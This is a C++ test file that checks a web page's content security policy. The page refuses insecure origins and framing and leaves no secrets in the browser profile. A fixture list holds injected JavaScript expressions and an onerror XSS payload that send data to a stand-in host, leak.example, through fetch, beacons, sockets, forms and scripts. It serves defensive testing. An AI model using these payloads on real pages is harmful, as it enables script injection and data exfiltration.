#include "page_fixture.hpp"

#include <fmt/core.h>

#include <algorithm>
#include <array>
#include <support/content.hpp>

namespace stagepass::tests {
namespace {

/// Ways in which a page reaches a network or runs a text, each as an expression for a script.
constexpr auto kAttempts = std::to_array<const char*>({
    "fetch('http://leak.example/fetch').catch(() => 0)",
    "(new Image()).src = 'http://leak.example/image'",
    "eval('window.harmed = 1')",
    "navigator.sendBeacon('http://leak.example/beacon', 'x')",
    "new WebSocket('ws://leak.example/socket')",
    "new EventSource('http://leak.example/events')",
    "new Worker('http://leak.example/worker')",
    "append('link', { rel: 'stylesheet', href: 'http://leak.example/style' })",
    "append('iframe', { src: 'http://leak.example/frame' })",
    "append('form', { action: 'http://leak.example/form' }).submit()",
    "append('script', { src: 'http://leak.example/script' })",
    "append('script', { text: 'window.harmed = 1' })",
    "append('base', { href: 'http://leak.example/' })",
    "document.body.innerHTML = '<img src=x onerror=window.harmed=1>'",
    "document.body.setAttribute('onclick', 'window.harmed = 1'), document.body.click()",
    "setTimeout('window.harmed = 1')",
});

/// Tries one, and waits until the page has got to know what came of it.
std::string attempt(const char* what) {
  return fmt::format(R"js(return (async () => {{
      const append = (name, members) => document.body.appendChild(Object.assign(document.createElement(name), members));
      const objection = new Promise((resolve) => {{
        document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), {{ once: true }});
      }});
      // Later, for the tools of a developer may do what the page may not.
      setTimeout(() => {{ {}; }});
      return await objection;
    }})())js",
                     what);
}

TEST_CASE_METHOD(PageFixture, "page: its policy stops every way out even for a script that got in",
                 "[page]") {
  for (const char* what : kAttempts) {
    INFO(what);
    browser_.open(address());
    CHECK_FALSE(browser_.run(attempt(what)).get<std::string>().empty());
    CHECK(browser_.run("return 'harmed' in window") == false);
  }
  CHECK(browser_.arrived().size() == arrived_before_);
}

// Without this the test above could not fail.
TEST_CASE_METHOD(PageFixture, "page: without its policy the same attempts reach the listener",
                 "[page]") {
  write_content(browser_.folder() / "free.html", "<!doctype html><title>free</title><body>");
  browser_.open("file://" + (browser_.folder() / "free.html").string());
  browser_.run(fmt::format("return {}.then(() => 1)", kAttempts[0]));
  browser_.run(
      "return new Promise((resolve) => { const image = new Image();"
      " image.onerror = image.onload = () => resolve(1); image.src = 'http://leak.example/image'; "
      "})");
  browser_.run(kAttempts[2]);
  CHECK(browser_.run("return 'harmed' in window") == true);
  const auto arrived = browser_.arrived();
  for (const char* name : {"fetch", "image"}) {
    CHECK(std::any_of(arrived.begin(), arrived.end(), [&](const std::string& line) {
      return line.starts_with(fmt::format("GET http://leak.example/{} ", name));
    }));
  }
  CHECK_FALSE(browser_.addresses().empty());
}

TEST_CASE_METHOD(PageFixture, "page: it works from a web server and asks that for nothing more",
                 "[page]") {
  browser_.open("http://localhost/open.html");
  REQUIRE(open(sample_handoff()).empty());
  CHECK(holds(browser_.text("#checklist"), "sp0123456789"));
  const auto arrived = browser_.arrived();
  INFO(Json(arrived).dump());
  REQUIRE(arrived.size() == arrived_before_ + 1);
  CHECK(arrived.back().starts_with("GET http://localhost/open.html "));
  CHECK(Json(browser_.console()) == Json::array());
}

TEST_CASE_METHOD(PageFixture, "page: it refuses to work where anybody could have changed it",
                 "[page]") {
  browser_.open("http://shop.example/open.html");
  CHECK(holds(browser_.text("#unfit"),
              "came over a connection that anybody could have changed it on"));
  CHECK_FALSE(browser_.is_shown("#opening"));
}

TEST_CASE_METHOD(PageFixture, "page: it refuses to work inside of another page", "[page]") {
  write_content(browser_.folder() / "frame.html",
                "<!doctype html><title>frame</title><iframe src='open.html'></iframe>");
  browser_.open("http://localhost/frame.html");
  CHECK(holds(
      browser_.run(
          "return "
          "document.querySelector('iframe').contentDocument.getElementById('unfit').textContent"),
      "stands inside another page"));
  CHECK(browser_.run("return "
                     "document.querySelector('iframe').contentDocument.getElementById('opening')."
                     "checkVisibility()") == false);
}

TEST_CASE("page: a browser that used it has written nothing of it to its profile", "[page]") {
  const SampleKey key(1);
  Browser browser;
  write_content(browser.folder() / "open.html",
                content_of(Browser::instance().folder() / "open.html"));
  browser.open("file://" + (browser.folder() / "open.html").string());
  browser.paste("#block", seal(sample_handoff(), key.recipient));
  browser.paste("#identity", key.line);
  browser.click("#open");
  browser.wait_until("!document.getElementById('opened').hidden");
  browser.click(R"(button[aria-label="Show the password of files"])");
  browser.quit();
  std::size_t files = 0;
  bool remembers_the_page = false;
  for (const auto& entry : std::filesystem::recursive_directory_iterator(browser.profile())) {
    if (!entry.is_regular_file()) {
      continue;
    }
    const std::string content = content_of(entry.path());
    INFO(entry.path());
    CHECK_FALSE(holds(content, key.line));
    CHECK_FALSE(holds(content, kPassword));
    CHECK_FALSE(holds(content, "sp0123456789"));
    CHECK_FALSE(holds(content, "BEGIN AGE ENCRYPTED FILE-----\nYWdl"));
    remembers_the_page = remembers_the_page || holds(content, "open.html");
    ++files;
  }
  CHECK(files > 10);
  CHECK(remembers_the_page);  // so it does write down where it was
}

}  // namespace
}  // namespace stagepass::tests
